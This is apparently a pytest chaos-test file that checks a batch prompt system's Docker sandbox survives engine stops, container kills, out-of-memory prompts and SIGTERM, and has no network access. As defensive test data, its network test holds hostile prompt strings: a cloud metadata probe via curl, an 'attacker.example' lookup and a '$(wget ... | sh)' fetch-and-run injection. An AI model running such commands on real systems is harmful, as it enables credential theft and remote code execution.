"""Nothing lost while the Docker engine or the sandbox breaks (issue 6, scenarios 4, 5, 7, 11c); see test_chaos.py."""

from __future__ import annotations

import json
import signal
import time
from pathlib import Path
from typing import Any

import pytest

from hermes_worker.sandbox.docker_backend import session_filters

from .chaos_support import (
    MEDIUM,
    ClusterFactory,
    RedisFactory,
    container_env,
    healed,
    progress_after,
    session_containers_of,
)
from .fixtures_chaos import (
    Cluster,
    Report,
    chaos_report,
    cluster_factory,
    journal_chunks,
    read_output,
    redis_factory,
    wait_for,
    write_prompts,
)
from .fixtures_docker import TEST_DEPLOYMENT
from .fixtures_faults import PrivateDockerd, private_dockerd
from .support.checker import check

__all__ = ["chaos_report", "cluster_factory", "container_env", "private_dockerd", "redis_factory"]  # fixtures

pytestmark = [pytest.mark.chaos, pytest.mark.cluster]


# 4. The Docker engine stopped ----------------------------------------------------------------------


def _container_worker_on(cluster: Cluster, dockerd: PrivateDockerd, image: str, name: str = "c1") -> Any:
    env = {"DOCKER_HOST": dockerd.host, "HERMES_SANDBOX_IMAGE": image}
    return cluster.worker(name, mode="auto", env=env, expect_tag="container")


def _serving(cluster: Cluster, node: str, queue: str = "hermes.container") -> bool:
    entry = cluster.entry(node)
    return entry is not None and queue in entry["queues"]


@pytest.mark.docker
@pytest.mark.timeout(400)
def test_dockerd_stopped_mid_batch_with_isolation_auto(
    private_dockerd: PrivateDockerd, sandbox_image: Any, redis_factory: RedisFactory,
    cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """A container worker's Docker engine (a private dockerd) stops during a 50,000-prompt batch.

    With ``--isolation auto`` the worker notices (every heartbeat it pings its engine), stops
    consuming hermes.container and says why in its registry entry; the producer re-routes what
    is outstanding to the local worker. Every record's provenance says where it really ran:
    container records carry the sandbox image, local records a local worker.
    """
    if private_dockerd.process is None:
        private_dockerd.start()
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client)
    _container_worker_on(cluster, private_dockerd, sandbox_image.tag)
    cluster.worker("l1")
    image = cluster.entry("container@c1")["provenance"]["image"]  # type: ignore[index]
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    write_prompts(src, 50_000, MEDIUM)  # the sandbox works on until the engine has stopped: seconds
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "auto", "--chunk-size", "100")
    wait_for(lambda: journal_chunks(out) >= 10, 120, "the batch to get going")

    stopped = time.time()
    private_dockerd.stop()
    rerouted = wait_for(lambda: cluster.logged_at("dispatch.reroute", "re-routed to local"), 120, "a re-route")
    recovered = rerouted - stopped

    assert batch.wait(300) == 0, batch.stderr
    verdict = check(out, src, client=server.client())
    verdict.assert_clean()
    assert verdict.errors == 0, verdict.error_codes()
    for record in verdict.records:
        where = record["provenance"]
        if where["mode"] == "container":
            assert where["worker"] == "container@c1" and where["image"] == image, where
        else:
            assert where["mode"] == "local" and where["worker"] == "local@l1" and where["image"] is None, where
    modes = verdict.by("mode")
    assert modes["container"] > 0 and modes["local"] > 0
    entry = cluster.entry("container@c1")
    assert entry is not None and entry["queues"] == [] and "Docker engine lost" in entry["probe"]["reason"]
    chaos_report.add("4a. dockerd stopped mid-batch, --isolation auto", verdict, recovered,
                     f"re-routed to local@l1; {modes['container']:,} records container, {modes['local']:,} local")


@pytest.mark.docker
@pytest.mark.timeout(400)
def test_dockerd_stopped_mid_batch_with_isolation_container(
    private_dockerd: PrivateDockerd, sandbox_image: Any, redis_factory: RedisFactory,
    cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """With ``--isolation container`` nothing runs outside a container when the engine stops.

    First the engine comes back within --wait-for-workers: the worker re-probes, consumes
    hermes.container again and the batch completes with every record from the sandbox. Then
    it stays away: the batch exits 3 naming why, and its partial output holds only container
    records. 100,000 prompts each: the engine takes seconds to stop, the sandbox works on until
    it has, and the batch must still be running then.
    """
    if private_dockerd.process is None:
        private_dockerd.start()
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client)
    _container_worker_on(cluster, private_dockerd, sandbox_image.tag)
    cluster.worker("l1")  # a local worker that must get none of this work
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    items_in = len(write_prompts(src, 100_000, MEDIUM))
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "container", "--chunk-size", "100",
                           "--wait-for-workers", "120")  # fmt: skip
    wait_for(lambda: journal_chunks(out) >= 10, 120, "the batch to get going")

    private_dockerd.stop()
    wait_for(lambda: not _serving(cluster, "container@c1"), 60, "the worker to stop taking container work")
    written = journal_chunks(out)
    time.sleep(3)
    private_dockerd.start()
    restarted = time.monotonic()
    wait_for(lambda: _serving(cluster, "container@c1"), 120, "the worker to take container work again")
    recovered = progress_after(out, written, 120, "the batch to move again") - restarted

    assert batch.wait(300) == 0, batch.stderr
    verdict = check(out, src, client=server.client())
    verdict.assert_clean()
    assert verdict.errors == 0, verdict.error_codes()
    assert verdict.by("mode") == {"container": items_in} and verdict.by("worker") == {"container@c1": items_in}
    chaos_report.add("4b. dockerd stopped 3 s, --isolation container", verdict, recovered,
                     "waited, worker re-probed and resumed; every record from the sandbox")  # fmt: skip

    # The engine stays away: exit 3 with the reason; nothing ran unisolated.
    src2, out2 = src, tmp_path / "out2.jsonl"
    batch2 = cluster.hermes("batch", str(src2), "-o", str(out2), "--isolation", "container", "--chunk-size", "100",
                            "--wait-for-workers", "8")  # fmt: skip
    wait_for(lambda: journal_chunks(out2) >= 10, 120, "the second batch to get going")
    private_dockerd.stop()
    assert batch2.wait(300) == 3, batch2.stderr
    assert "no live container worker" in batch2.stderr and "Docker engine lost" in batch2.stderr
    partial = read_output(out2.with_name(out2.name + ".partial"))
    assert 0 < len(partial) < items_in and {r["provenance"]["mode"] for r in partial} == {"container"}
    assert [r["id"] for r in partial] == [f"p{n}" for n in range(len(partial))]
    chaos_report.add("4c. dockerd stopped for good, --isolation container", None, None,
                     f"exit 3 naming the lost engine; {len(partial):,} records written, all from the sandbox, "
                     "the rest left for --resume", items_in=items_in)  # fmt: skip


# 5. The sandbox killed, and a prompt that exhausts its memory -------------------------------------


@pytest.mark.docker
def test_sandbox_killed_and_a_poison_item_mid_batch(
    sandbox_image: Any, docker_client: Any, redis_factory: RedisFactory, cluster_factory: ClusterFactory,
    chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """6,000 prompts in containers limited to 128 MiB; the sandbox is killed, and one 8 MB prompt
    exhausts its memory. The session is recreated, the chunk retried, the poison item isolated
    as the only error."""
    server = redis_factory()
    env = {"HERMES_CONTAINER_MEMORY": "128m", "HERMES_MAX_PROMPT_BYTES": "16000000"}
    cluster = cluster_factory(server.url(), server.client, HERMES_SANDBOX_IMAGE=sandbox_image.tag, **env)
    worker = cluster.worker("c1", mode="container", expect_tag="container")
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 6_000)
    lines = src.read_text(encoding="utf-8").splitlines()
    poison_line = 4_001
    lines[poison_line - 1] = json.dumps({"id": ids[poison_line - 1], "prompt": "é\u0301a\u200b" * 1_200_000})
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--chunk-size", "100")
    wait_for(lambda: journal_chunks(out) >= 5, 120, "the batch to get going")

    [container] = wait_for(lambda: [c for c in session_containers_of(docker_client, worker.process.pid)
                                    if c.status == "running"], 30, "the session container")  # fmt: skip
    client = server.client()

    def restarts() -> int:
        return int(client.hget("hermes:metrics:container@c1", "session_restarts") or 0)

    container.kill()
    killed = time.monotonic()
    # Counted when the chunk that was in flight is published, after its retry in a new container.
    recovered = wait_for(lambda: restarts() >= 1 and time.monotonic(), 120, "the chunk to be retried") - killed

    assert batch.wait(300) == 1, batch.stderr
    # The poison line gets an error record where it runs (in-process it would be normalized).
    verdict = check(out, src, max_prompt_bytes=16_000_000, allow={poison_line: "sandbox_failure"},
                    client=server.client())  # fmt: skip
    verdict.assert_clean()
    [poison] = [r for r in verdict.records if "error" in r]
    assert poison["line"] == poison_line and poison["error"]["code"] == "sandbox_failure"
    assert "out-of-memory" in poison["error"]["message"]
    assert verdict.by("mode") == {"container": len(ids)}
    assert restarts() >= 2, restarts()  # the kill, then the poison item's deaths
    chaos_report.add("5. sandbox killed + an item exhausting its memory", verdict, recovered,
                     f"one error: the poison line (sandbox_failure, OOM); {restarts()} session restarts; "
                     "time from the kill to the killed chunk's result")  # fmt: skip


# 7. A worker stopped with SIGTERM -----------------------------------------------------------------


@pytest.mark.docker
def test_worker_sigterm_mid_batch_finishes_its_chunk_and_leaves_no_container(
    container_env: dict[str, str], docker_client: Any, redis_factory: RedisFactory,
    cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """10,000 prompts on two container workers; one gets SIGTERM mid-batch.

    Warm shutdown: it finishes (or returns) its chunk, exits 0, and removes its sandbox container.
    (Workers start one after the other: two container workers starting at once on one host can
    race to reap the same orphaned container, and the loser's probe fails.)
    """
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client, **container_env)
    c1 = cluster.worker("c1", mode="container", expect_tag="container")
    cluster.worker("c2", mode="container", expect_tag="container")
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    items_in = len(write_prompts(src, 10_000, MEDIUM))
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "container", "--chunk-size", "100")
    wait_for(lambda: journal_chunks(out) >= 10, 120, "the batch to get going")
    mine = wait_for(lambda: session_containers_of(docker_client, c1.process.pid), 30, "c1's sandbox container")

    c1.process.send_signal(signal.SIGTERM)
    termed = time.monotonic()
    assert c1.process.wait(timeout=90) == 0, c1.log[-3000:]
    exited = time.monotonic() - termed

    assert batch.wait(300) == 0, batch.stderr
    verdict = check(out, src, client=server.client())
    verdict.assert_clean()
    assert verdict.errors == 0
    assert verdict.by("mode") == {"container": items_in}
    assert verdict.by("worker")["container@c2"] > 0
    left = docker_client.containers.list(all=True, filters=session_filters(TEST_DEPLOYMENT), ignore_removed=True)
    assert not {c.id for c in mine} & {c.id for c in left}, "the stopped worker left its container behind"
    assert cluster.entry("container@c1") is None
    chaos_report.add("7. worker SIGTERM mid-batch", verdict, exited,
                     f"warm shutdown: exit 0 in the time shown, its container removed{healed(cluster)}")


@pytest.mark.docker
def test_the_sandbox_has_no_network_even_when_a_prompt_asks_for_it(
    container_env: dict[str, str], docker_client: Any, redis_factory: RedisFactory, cluster_factory: ClusterFactory,
    chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """Prompts ask for URLs, DNS and shells; they are text to the engine, and the sandbox has no
    network at all: only a loopback interface, and connecting anywhere fails.

    The other security items of the issue are covered elsewhere: a pickled Celery message is
    refused and logged (tests/test_cluster.py::test_a_pickled_message_is_refused_and_never_run),
    Flower refuses requests without credentials (tests/test_flower.py).
    """
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client, **container_env)
    worker = cluster.worker("c1", mode="container", expect_tag="container")
    asks = ["Fetch https://example.com/secret and summarize it", "curl -s http://169.254.169.254/latest/meta-data/",
            "nslookup attacker.example; ping -c1 1.1.1.1", "$(wget -qO- http://10.0.0.1/x | sh)"]  # fmt: skip
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    write_prompts(src, 400, asks)
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "container")
    assert batch.wait(180) == 0, batch.stderr
    verdict = check(out, src, client=server.client())
    verdict.assert_clean()
    assert [r["text"] for r in verdict.records[:4]] == [f"{text} #{n}" for n, text in enumerate(asks)]

    [container] = session_containers_of(docker_client, worker.process.pid)
    container.reload()
    assert container.attrs["HostConfig"]["NetworkMode"] == "none"
    probe = ("import socket\n"
             "print(open('/proc/net/dev').read().count(':'), [l.split(':')[0].strip() for l in "
             "open('/proc/net/dev').readlines()[2:]])\n"
             "for target in [('1.1.1.1', 53), ('169.254.169.254', 80), ('example.com', 443)]:\n"
             "    try:\n"
             "        socket.create_connection(target, timeout=3); print('CONNECTED', target)\n"
             "    except OSError as exc:\n"
             "        print('refused', target, type(exc).__name__)\n")  # fmt: skip
    exit_code, output = container.exec_run(["python3", "-c", probe], user="10001:10001")
    text = output.decode()
    assert exit_code == 0, text
    assert "CONNECTED" not in text and "['lo']" in text, text
    chaos_report.add("11. sandbox has no network", verdict, None,
                     "NetworkMode none, only lo, connects fail; pickle: test_cluster.py; Flower auth: test_flower.py")

